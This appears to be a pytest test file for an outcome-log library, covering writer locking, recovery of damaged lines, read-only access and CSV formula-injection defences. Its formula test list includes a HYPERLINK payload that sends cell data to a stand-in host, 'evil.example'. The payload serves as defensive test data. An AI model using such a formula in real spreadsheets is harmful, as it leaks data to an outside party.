"""The outcome log under attack: two writers, damaged lines, read-only files, formula cells.

Writers in other processes are real processes (``tests._log_writer_child``), one of them held
to a file-size limit (``RLIMIT_FSIZE``) so that its last write leaves half a row on disk; a
read-only log is read by a process without write access (a read-only bind mount, or a 0444 file
read without ``CAP_DAC_OVERRIDE``).
"""

from __future__ import annotations

import csv
import errno
import gc
import json
import os
import shutil
import signal
import subprocess
import sys
import warnings
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests._forking import ROOT, ForkingChild
from tests._log_writer_child import sample_rows
from verigator_nb.log import DamagedLogWarning, LogFormatError, LogLockedError, OutcomeLog
from verigator_nb.log._spreadsheet import FORMULA_STARTS, neutralise, restore
from verigator_nb.schema import COLUMNS

START = datetime(2026, 1, 1, tzinfo=UTC)


@pytest.fixture(scope="module")
def worker() -> Iterator[ForkingChild]:
    child = ForkingChild("tests._log_writer_child")
    yield child
    child.close()


def _ids(log: OutcomeLog) -> list[str]:
    return [row["event_id"] for row in log.rows]


def _line(event_id: str) -> bytes:
    return json.dumps({"event_id": event_id, "ts": "2026-01-01T00:00:00Z"}).encode()


def _quiet_load(path: Path) -> OutcomeLog:
    """``load``, failing if it warns: the file is expected to be whole."""
    with warnings.catch_warnings():
        warnings.simplefilter("error", DamagedLogWarning)
        return OutcomeLog.load(path)


# --- one writer per file ----------------------------------------------------------------------


def test_a_writer_in_another_process_locks_out_a_second_writer_but_not_readers(
    worker: ForkingChild, tmp_path: Path
) -> None:
    path = tmp_path / "outcomes.jsonl"
    pid = worker.start(f"hold {path} 3 a")
    try:
        assert worker.line() == "held"
        with pytest.raises(LogLockedError, match="another writer") as caught:
            OutcomeLog(path)
        assert caught.value.filename == str(path) and str(path) in str(caught.value)
        reader = _quiet_load(path)  # reading takes no lock
        assert _ids(reader) == ["a-0", "a-1", "a-2"]
        with pytest.raises(LogLockedError):
            reader.append({"event_id": "b-0"})  # a loaded log becomes a writer only if it can
        assert len(reader) == 3 and path.read_bytes().count(b"\n") == 3
    finally:
        worker.kill(pid)  # the lock dies with its process
    with OutcomeLog(path) as second:
        second.append({"event_id": "b-0", "ts": START})
    assert _ids(_quiet_load(path)) == ["a-0", "a-1", "a-2", "b-0"]


def test_a_capped_writer_cannot_glue_its_half_row_to_another_writers_rows(
    worker: ForkingChild, tmp_path: Path
) -> None:
    path = tmp_path / "outcomes.jsonl"
    first = OutcomeLog(path)
    first.append({**sample_rows(1)[0], "event_id": "first-0"})
    steps, status = worker.run(f"capped {path} 2000 capped")
    assert steps and steps[0].startswith("locked ") and str(path) in steps[0], steps[:3]
    assert os.WIFEXITED(status)
    first.append({**sample_rows(1)[0], "event_id": "first-1"})
    first.close()

    steps, status = worker.run(f"capped {path} 2000 capped")  # alone now: dies mid-row
    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGXFSZ, steps[-3:]
    written = [step.removeprefix("row ") for step in steps]
    assert len(written) >= 2 and not path.read_bytes().endswith(b"\n"), "no half row on disk"
    with pytest.warns(DamagedLogWarning, match=f"line {len(written) + 3}"):
        loaded = OutcomeLog.load(path)
    assert _ids(loaded) == ["first-0", "first-1", *written]
    assert [line for line, _ in loaded.set_aside] == [len(written) + 3]
    assert "torn" in loaded.set_aside[0][1]

    with pytest.warns(DamagedLogWarning, match="set aside line"):
        again = OutcomeLog(path)
    with again:  # its first append cuts the half row off
        again.append({"event_id": "last", "ts": START})
    final = _quiet_load(path)
    assert _ids(final) == ["first-0", "first-1", *written, "last"] and final.set_aside == []


def test_a_second_writer_in_the_same_process_is_refused_until_the_first_is_closed(
    tmp_path: Path,
) -> None:
    path = tmp_path / "outcomes.jsonl"
    first = OutcomeLog(path)
    with pytest.raises(LogLockedError, match=str(path)):
        OutcomeLog(path)
    first.append({"event_id": "a"})
    first.close()
    second = OutcomeLog(path)
    second.append({"event_id": "b"})
    del second  # an unclosed log that is collected lets go of the file too
    gc.collect()
    with OutcomeLog(path) as third:
        assert _ids(third) == ["a", "b"]


def test_a_forked_copy_of_a_writer_cannot_append_through_the_lock_it_shares(
    worker: ForkingChild, tmp_path: Path
) -> None:
    path = tmp_path / "outcomes.jsonl"
    steps, status = worker.run(f"forked {path}")
    assert steps == ["child LogLockedError"] and os.WIFEXITED(status)
    assert _ids(_quiet_load(path)) == ["parent"]


def test_a_loaded_log_becomes_the_writer_at_its_first_append_with_the_rows_since_added(
    tmp_path: Path,
) -> None:
    path = tmp_path / "outcomes.jsonl"
    with OutcomeLog(path) as first:
        first.append({"event_id": "a", "ts": START})
    reader = _quiet_load(path)
    with OutcomeLog(path) as meanwhile:  # reading took no lock: another writer may come
        meanwhile.append({"event_id": "b", "ts": START})
    reader.append({"event_id": "c", "ts": START})
    assert _ids(reader) == ["a", "b", "c"] == _ids(_quiet_load(path)), "memory == file"
    with pytest.raises(LogLockedError):
        OutcomeLog(path)
    reader.close()
    with pytest.raises(ValueError, match="closed"):
        reader.append({"event_id": "d"})
    OutcomeLog(path).close()


@pytest.mark.parametrize(
    "before",
    [
        pytest.param(b"", id="after-a-whole-line"),
        pytest.param(_line("r2"), id="after-a-row-without-its-newline"),
    ],
)
def test_a_row_written_in_part_is_taken_back_at_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, before: bytes
) -> None:
    path = tmp_path / "outcomes.jsonl"
    path.write_bytes(_line("r1") + b"\n" + before)
    log = OutcomeLog(path)
    on_disk = path.read_bytes()
    real_write = os.write

    def half_then_full(fd: int, data: bytes) -> int:
        real_write(fd, data[: len(data) // 2])
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "write", half_then_full)
    with pytest.raises(OSError, match="No space"):
        log.append({"event_id": "lost", "ts": START})
    assert path.read_bytes() == on_disk, "the half row must not stay on disk"
    monkeypatch.setattr(os, "write", real_write)
    log.append({"event_id": "r3", "ts": START})
    log.close()
    expected = ["r1", "r2", "r3"] if before else ["r1", "r3"]
    assert _ids(log) == expected == _ids(_quiet_load(path))
    assert path.read_bytes().count(b"\n") == len(expected)


# --- damaged lines ----------------------------------------------------------------------------


def test_load_recovers_every_row_around_damaged_lines_and_says_which_it_set_aside(
    tmp_path: Path,
) -> None:
    path = tmp_path / "outcomes.jsonl"
    half = _line("torn")[:25]  # what a writer cut off mid-row leaves
    lines = [
        _line("r1"),
        half + _line("r2"),  # another writer's row glued to it (older versions allowed two)
        b"{not json",
        b"[1, 2]",
        b'{"event_id":"x","pin":"123456"}',
        b'{"event_id":"x","verified":"no"}',
        b"\xff\xfe",
        _line("r3"),
    ]
    path.write_bytes(b"\n".join(lines) + b"\n")
    with pytest.warns(DamagedLogWarning, match=r"set aside 6 lines .*2, 3, 4, 5, 6, 7"):
        log = OutcomeLog.load(path)
    assert _ids(log) == ["r1", "r2", "r3"]
    reasons = dict(log.set_aside)
    assert list(reasons) == [2, 3, 4, 5, 6, 7]
    assert "row at its end was kept" in reasons[2] and "not JSON" in reasons[3]
    assert "not a JSON object" in reasons[4] and "'pin'" in reasons[5]
    assert "'verified'" in reasons[6] and "not UTF-8" in reasons[7]
    assert "123456" not in " ".join(reasons.values()), "a reason must not echo a value"

    with pytest.warns(DamagedLogWarning):
        resumed = OutcomeLog(path)  # a damaged log reopens for appending too
    resumed.append({"event_id": "r4", "ts": START})
    resumed.close()
    with pytest.warns(DamagedLogWarning):
        again = OutcomeLog.load(path)
    assert _ids(again) == ["r1", "r2", "r3", "r4"] and again.set_aside == log.set_aside


def test_a_file_with_no_row_at_all_is_not_taken_for_a_log(tmp_path: Path) -> None:
    path = tmp_path / "README.md"
    path.write_text("# A title\n\nSome prose, {not json}.\n")
    before = path.read_bytes()
    with pytest.raises(LogFormatError, match="line 1: not an outcome log") as caught:
        OutcomeLog.load(path)
    assert caught.value.line == 1
    with pytest.raises(LogFormatError, match="not an outcome log"):
        OutcomeLog(path)
    assert path.read_bytes() == before


# --- file states ------------------------------------------------------------------------------


def test_a_complete_last_row_without_a_newline_is_kept_and_the_next_append_adds_it(
    tmp_path: Path,
) -> None:
    path = tmp_path / "outcomes.jsonl"
    path.write_bytes(_line("r1") + b"\n" + _line("r2"))  # e.g. saved by an editor
    assert _ids(_quiet_load(path)) == ["r1", "r2"]
    with OutcomeLog(path) as log:
        assert _ids(log) == ["r1", "r2"]
        log.append({"event_id": "r3", "ts": START})
    assert path.read_bytes().startswith(_line("r1") + b"\n" + _line("r2") + b"\n")
    assert path.read_bytes().count(b"\n") == 3
    assert _ids(_quiet_load(path)) == ["r1", "r2", "r3"]


@pytest.mark.parametrize(
    "blank",
    [
        pytest.param(b"\n", id="one-blank-line-at-the-end"),
        pytest.param(b"\n\n  \n\r\n", id="blank-and-whitespace-lines-at-the-end"),
        pytest.param(b"  ", id="spaces-after-the-last-newline"),
    ],
)
def test_blank_lines_are_skipped_wherever_they_are(tmp_path: Path, blank: bytes) -> None:
    path = tmp_path / "outcomes.jsonl"
    path.write_bytes(_line("r1") + b"\n\n" + _line("r2") + b"\n" + blank)
    log = _quiet_load(path)
    assert _ids(log) == ["r1", "r2"] and log.set_aside == []
    with OutcomeLog(path) as writer:
        writer.append({"event_id": "r3", "ts": START})
    assert _ids(_quiet_load(path)) == ["r1", "r2", "r3"]


def _sealed(path: Path, how: str) -> list[str]:
    """Run a fresh interpreter that loads ``path`` and reports on it without write access."""
    script = (
        "import sys\n"
        "from verigator_nb import report\n"
        "from verigator_nb.log import OutcomeLog\n"
        "log = OutcomeLog.load(sys.argv[1])\n"
        "print(len(log))\n"
        "print(report.summary(sys.argv[1]).splitlines()[0])\n"
        "try:\n"
        "    OutcomeLog(sys.argv[1])\n"
        "except OSError as exc:\n"
        "    print('refused', exc.errno)\n"
    )
    command = [sys.executable, "-c", script, str(path)]
    if how == "mount":
        probe = ["unshare", "--mount", "true"]
        if shutil.which("unshare") is None or subprocess.run(probe, check=False).returncode:
            pytest.skip("this machine cannot make a private mount namespace")
        folder = str(path.parent)
        quoted = " ".join(f"'{part}'" for part in command[:2]) + ' "$0" "$1"'
        mount = f"mount --bind -o ro '{folder}' '{folder}' && exec {quoted}"
        command = ["unshare", "--mount", "--propagation", "private", "sh", "-c", mount, script]
        command.append(str(path))
    else:
        path.chmod(0o444)
        path.parent.chmod(0o555)
        if os.geteuid() == 0:  # root writes anywhere unless it gives up CAP_DAC_OVERRIDE
            if shutil.which("setpriv") is None:
                pytest.skip("setpriv (util-linux) is needed to drop root's CAP_DAC_OVERRIDE")
            drop = "-dac_override,-dac_read_search"
            command = ["setpriv", "--bounding-set", drop, "--inh-caps", drop, *command]
    try:
        done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)
    finally:
        path.parent.chmod(0o755)
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout.splitlines()


@pytest.mark.parametrize("how", ["mount", "chmod"])
def test_a_read_only_log_loads_and_reports_without_write_access(tmp_path: Path, how: str) -> None:
    folder = tmp_path / "logs"
    folder.mkdir()
    path = folder / "outcomes.jsonl"
    with OutcomeLog(path) as log:
        for row in sample_rows(30):
            log.append(row)
    before = path.read_bytes()
    out = _sealed(path, how)
    assert out[0] == "30" and "30 calls" in out[1].replace(",", "")
    assert out[2] in ("refused 13", "refused 30"), "appending needs write access"
    assert path.read_bytes() == before


# --- spreadsheet formulas ---------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\0=1",
    "=",
    "'=already quoted",
    "''",
    "'",
    "'plain quote",
    "a=b",
    "-",
    "mid\rline",
]


def test_csv_export_neutralises_formula_cells_and_load_gives_them_back(tmp_path: Path) -> None:
    log = OutcomeLog()
    for i, text in enumerate(FORMULAS):
        row = sample_rows(1)[0]
        log.append({**row, "event_id": f"e{i}", "tags": text, "user_id": text, "service_id": text})
    target = tmp_path / "outcomes.csv"
    log.to_csv(target)
    with target.open(newline="", encoding="utf-8") as stream:
        records = list(csv.DictReader(stream))
    assert len(records) == len(FORMULAS) and all(None not in r.values() for r in records)
    text = [c.name for c in COLUMNS if c.dtype == "str" or hasattr(c.dtype, "categories")]
    starts = ("=", "+", "-", "@", "\t", "\r", "\0")  # OWASP's list, and ASVS's NUL
    cells = [(name, record[name]) for record in records for name in text]
    assert [cell for cell in cells if cell[1].startswith(starts)] == []
    assert records[0]["tags"] == "'" + FORMULAS[0]
    back = OutcomeLog.load(target)
    assert [r["tags"] for r in back.rows] == FORMULAS
    assert [r["user_id"] for r in back.rows] == FORMULAS
    pd.testing.assert_frame_equal(back.df, log.df)


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_is_restored_exactly(text: str) -> None:
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert restore(cell) == text
    assert cell == text or cell == "'" + text


def test_numbers_in_numeric_columns_stay_numbers_in_the_csv(tmp_path: Path) -> None:
    log = OutcomeLog()
    log.append({"event_id": "a", "ts": START, "latency_ms": -1.5, "attempt": -3, "tags": "-1.5"})
    target = tmp_path / "outcomes.csv"
    log.to_csv(target)
    with target.open(newline="", encoding="utf-8") as stream:
        record = next(csv.DictReader(stream))
    assert record["latency_ms"] == "-1.5" and record["attempt"] == "-3"
    assert record["tags"] == "'-1.5", "text that looks like a number is still text"
    back = OutcomeLog.load(target).rows[0]
    assert back["latency_ms"] == -1.5 and back["attempt"] == -3 and back["tags"] == "-1.5"
